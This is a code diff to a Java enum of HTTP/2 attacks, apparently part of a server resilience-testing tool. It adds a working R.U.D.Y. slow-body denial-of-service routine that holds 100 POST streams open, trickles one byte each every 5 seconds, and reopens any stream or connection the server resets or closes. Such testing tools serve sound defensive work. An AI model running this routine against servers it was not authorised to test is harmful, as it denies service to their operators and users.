@@ -151,6 +151,16 @@ public enum Attack implements Token {
                     connection.post(target.smallPath()).set("content-length", "65536"), false), (connection, streams) -> {
                     });
         }
+    },
+    /**
+     * R.U.D.Y. over HTTP/2 (issue shield): 2 connections of 50 POSTs each declaring a body of 1,000,000 bytes and sending
+     * one byte a stream every 5 s; a stream the server answers or resets is opened again, and a connection it closes.
+     */
+    SLOW_BODIES("slow bodies", "R.U.D.Y.", 100, "streams") {
+        @Override
+        public Outcome against(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).trickled(2, 1_000_000, Duration.ofSeconds(5));
+        }
     };
 
     /**
@@ -300,6 +310,58 @@ public enum Attack implements Token {
                 // as above
             }
             return end(sent);
+        }
+
+        /**
+         * POSTs over {@code count} connections, each declaring {@code declared} bytes and sent one byte a stream each
+         * {@code every}, for as long as the attack lasts: a stream answered or reset is replaced by a new one, a connection
+         * closed or gone away by a new one with all its streams.
+         */
+        Outcome trickled(int count, long declared, Duration every) throws IOException, InterruptedException {
+            int perConnection = (int) (attack.scale / count);
+            List<RawHttp2> held = new ArrayList<>();
+            List<List<Integer>> streams = new ArrayList<>();
+            long[] sent = {0};
+            Step post = (connection, step) -> {
+                connection.headers(stream(step), connection.post(target.smallPath()).set("content-length", Long.toString(declared)), false);
+                sent[0]++;
+            };
+            try {
+                for (int c = 0; c < count; c++) {
+                    held.add(open(new Http2Settings()));
+                    streams.add(new ArrayList<>());
+                }
+                int[] nextStep = new int[count];
+                while (inTime()) {
+                    for (int c = 0; c < count; c++) {
+                        RawHttp2 connection = held.get(c);
+                        if (connection.closedByTheServer() || connection.goAwayError() >= 0) {
+                            connection = open(new Http2Settings());
+                            held.set(c, connection);
+                            streams.get(c).clear();
+                            nextStep[c] = 0;
+                        }
+                        List<Integer> trickling = streams.get(c);
+                        for (int s = 0; s < trickling.size(); s++) {
+                            int stream = trickling.get(s);
+                            if (connection.resets().containsKey(stream) || connection.awaitStatus(stream, Duration.ZERO).isPresent()) {
+                                trickling.remove(s--);
+                            } else {
+                                connection.data(stream, new byte[] {'x'}, false);
+                            }
+                        }
+                        while (trickling.size() < perConnection) {
+                            trickling.add(stream(++nextStep[c]));
+                            post.send(connection, nextStep[c]);
+                        }
+                        connection.flush();
+                    }
+                    Thread.sleep(Math.max(1, Math.min(every.toMillis(), Duration.between(Instant.now(), deadline).toMillis())));
+                }
+            } catch (IOException | Http2Exception refused) {
+                // as above: a connection the server would not take, or one it closed under a write
+            }
+            return end(sent[0]);
         }
 
         /** The large answer asked for and cancelled once its HEADERS came; a closed connection opened again. */
